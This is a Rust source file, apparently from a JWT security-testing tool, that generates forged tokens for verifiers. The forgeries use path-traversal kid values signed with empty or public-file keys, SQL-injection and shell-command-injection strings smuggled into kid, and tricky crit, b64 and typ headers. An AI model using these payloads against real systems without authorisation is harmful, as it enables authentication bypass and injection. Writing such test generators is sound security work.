//! Tokens whose header tells the verifier something it must not follow: odd ids of keys, critical members, other types.

use scenarios::model::Ability;
use serde_json::{Value, json};

use super::{
    algorithm::{Algorithm, Hash},
    key::Key,
    recipe::{Forged, Made, Material, Part, Recipe, Unforgeable},
};

pub(super) const RECIPES: &[Recipe] = &[
    Recipe {
        name: "kid-path-traversal",
        title: "kid as the path of an empty or public file, signed with its content",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt],
        make: kid_path_traversal,
    },
    Recipe {
        name: "kid-sql-injection",
        title: "kid as a piece of SQL that selects a known key; a lone quote; a pair of conditions",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt],
        make: kid_sql_injection,
    },
    Recipe {
        name: "kid-command",
        title: "kid as a shell command that sleeps, beside one of the same length that does not",
        changes: &[Part::Header],
        needs: &[Ability::Jwt],
        make: kid_command,
    },
    Recipe {
        name: "kid-types",
        title: "kid of the wrong type, huge, unknown or given twice, under the old signature",
        changes: &[Part::Header],
        needs: &[Ability::Jwt],
        make: kid_types,
    },
    Recipe {
        name: "crit-unknown",
        title: "a crit list that no verifier can honour, rightly signed (RFC 7515 4.1.11)",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt, Ability::Secret],
        make: crit_unknown,
    },
    Recipe {
        name: "b64-false",
        title: "the unencoded payload option, rightly signed (RFC 7797)",
        changes: &[Part::Header, Part::Signature, Part::Encoding],
        needs: &[Ability::Jwt, Ability::Secret],
        make: b64_false,
    },
    Recipe {
        name: "typ-header",
        title: "a typ of another kind of token, rightly signed (RFC 8725 3.11)",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt, Ability::Secret],
        make: typ_header,
    },
];

/// The algorithm for a token whose key is text that the attacker knows.
fn hmac_algorithm(material: &Material<'_>) -> Algorithm {
    material
        .hmac_algorithm()
        .unwrap_or(Algorithm::Hs(Hash::Sha256))
}

/// A token with this kid, signed by HMAC with a secret.
fn keyed(material: &Material<'_>, kid: &str, secret: &[u8]) -> Result<String, Unforgeable> {
    let algorithm = hmac_algorithm(material);
    let draft = material.draft()?.header(|h| {
        h.set("alg", algorithm.name());
        h.set("kid", kid);
    });
    draft.signed(algorithm, &Key::hmac(secret))
}

fn kid_path_traversal(material: &mut Material<'_>) -> Made {
    let up = "../".repeat(8);
    let missing = format!("{up}authspec-{}", material.random_word(12));
    // The file is empty; a NUL byte would be the same HMAC key (RFC 2104 2).
    let mut kids = vec![
        ("dev-null", "/dev/null".to_owned(), &b""[..]),
        ("dev-null-relative", format!("{up}dev/null"), b""),
        ("dev-null-url", "file:///dev/null".to_owned(), b""),
        ("empty", String::new(), b""),
        ("missing-file", missing, b""),
    ];
    if let Some(file) = material.public_file {
        let path = file.path.trim_start_matches('/');
        kids.push(("public-file", path.to_owned(), file.content));
        kids.push((
            "public-file-in-public",
            format!("public/{path}"),
            file.content,
        ));
        kids.push((
            "public-file-in-static",
            format!("static/{path}"),
            file.content,
        ));
    }
    kids.into_iter()
        .map(|(form, kid, secret)| Ok(Forged::form(form, keyed(material, &kid, secret)?)))
        .collect()
}

fn kid_sql_injection(material: &mut Material<'_>) -> Made {
    let word = material.random_word(32);
    let kid = material.token()?.kid().unwrap_or("1").to_owned();
    let kids = [
        ("union", format!("x' UNION SELECT '{word}' -- ")),
        (
            "union-two-columns",
            format!("x' UNION SELECT '{word}','{word}' -- "),
        ),
        (
            "union-double-quotes",
            format!("x\" UNION SELECT '{word}' -- "),
        ),
        ("quote", format!("{kid}'")),
        ("true", format!("{kid}' AND '1'='1")),
        ("false", format!("{kid}' AND '1'='2")),
    ];
    kids.into_iter()
        .map(|(form, kid)| Ok(Forged::form(form, keyed(material, &kid, word.as_bytes())?)))
        .collect()
}

fn kid_command(material: &mut Material<'_>) -> Made {
    let kids = [
        ("control", "x|sloop 3"),
        ("pipe", "x|sleep 3"),
        ("leading-pipe", "|sleep 3"),
        ("semicolon", "x;sleep 3"),
        ("backtick", "x`sleep 3`"),
        ("substitution", "x$(sleep 3)"),
    ];
    kids.into_iter()
        .map(|(form, kid)| {
            Ok(Forged::form(
                form,
                with_kid(material, &json!(kid).to_string())?,
            ))
        })
        .collect()
}

fn kid_types(material: &mut Material<'_>) -> Made {
    let unknown = json!(material.random_word(24)).to_string();
    let huge = json!("k".repeat(10 * 1024)).to_string();
    let mut forged = vec![];
    for (form, kid) in [
        ("number", "1"),
        ("array", "[\"1\"]"),
        ("object", "{\"kid\":\"1\"}"),
        ("null", "null"),
        ("huge", &*huge),
        ("unknown", &*unknown),
    ] {
        forged.push(Forged::form(form, with_kid(material, kid)?));
    }
    let twice = material.draft()?.header(|h| {
        h.push("kid", &unknown);
        if material.token.is_some_and(|token| token.kid().is_none()) {
            h.push("kid", "\"1\"");
        }
    });
    forged.push(Forged::form(
        "twice",
        twice.with_signature(material.token()?.signature()),
    ));
    Ok(forged)
}

/// A token with this kid as JSON text, under the signature that it had.
fn with_kid(material: &Material<'_>, json: &str) -> Result<String, Unforgeable> {
    Ok(material
        .draft()?
        .header(|h| h.set_raw("kid", json))
        .with_signature(material.token()?.signature()))
}

fn crit_unknown(material: &mut Material<'_>) -> Made {
    let extension = "authspec.example/unknown";
    let forms = [
        ("unknown-member", json!([extension]), true),
        ("absent-member", json!([extension]), false),
        ("empty-list", json!([]), false),
        ("not-a-list", json!(extension), true),
    ];
    forms
        .into_iter()
        .map(|(form, crit, present)| {
            let draft = material.draft()?.header(|h| {
                h.set("crit", crit);
                if present {
                    h.set(extension, true);
                }
            });
            Ok(Forged::form(form, material.sign(&draft)?))
        })
        .collect()
}

fn b64_false(material: &mut Material<'_>) -> Made {
    let (algorithm, key) = (material.algorithm()?, material.key()?);
    let claims = material.draft()?.claims_json();
    let critical = material.draft()?.header(|h| {
        h.set("b64", false);
        h.set("crit", json!(["b64"]));
    });
    let plain = material.draft()?.header(|h| h.set("b64", false));
    let over_raw =
        |payload: &str| key.sign(algorithm, critical.raw_signing_input(payload).as_bytes());
    let mut forged = vec![
        // The signature is over the raw text, the payload travels encoded: for verifiers that decode first.
        Forged::form(
            "encoded-payload",
            critical.with_signature(&over_raw(&claims)?),
        ),
        Forged::form("without-crit", material.sign(&plain)?),
    ];
    // A raw payload must not hold a dot (RFC 7797 5.2); inside JSON texts it can be escaped, inside numbers it cannot.
    let escaped = claims.replace('.', "\\u002e");
    if serde_json::from_str::<Value>(&escaped).is_ok() {
        let text = critical.with_raw_payload(&escaped, &over_raw(&escaped)?);
        forged.push(Forged::form("raw-payload", text));
    }
    Ok(forged)
}

fn typ_header(material: &mut Material<'_>) -> Made {
    let own = material.token()?.header().get("typ");
    let types = [
        ("JWE", json!("JWE")),
        ("at+jwt", json!("at+jwt")),
        ("dpop+jwt", json!("dpop+jwt")),
        ("number", json!(1)),
    ];
    types
        .into_iter()
        .filter(|(_, typ)| own != Some(typ))
        .map(|(form, typ)| {
            let draft = material.draft()?.header(|h| h.set("typ", typ));
            Ok(Forged::form(form, material.sign(&draft)?))
        })
        .collect()
}
